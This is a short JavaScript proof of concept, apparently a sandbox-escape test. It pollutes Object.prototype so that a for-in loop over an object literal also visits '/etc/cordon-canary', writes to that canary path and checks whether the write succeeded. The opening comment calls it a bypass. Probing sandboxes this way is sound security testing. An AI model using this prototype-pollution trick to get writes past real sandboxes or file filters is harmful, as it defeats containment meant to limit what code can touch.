// bypass: Object.getPrototypeOf({})[OUT] = 1 adds an enumerable key to Object.prototype; for-in over a literal visits it
const fs = require("fs");
const T = "/etc/cordon-canary";
Object.getPrototypeOf({})[T] = 1;
for (const k in { "a.txt": 1 }) fs.writeFileSync(k, "x");
console.log(fs.existsSync("/etc/cordon-canary"));
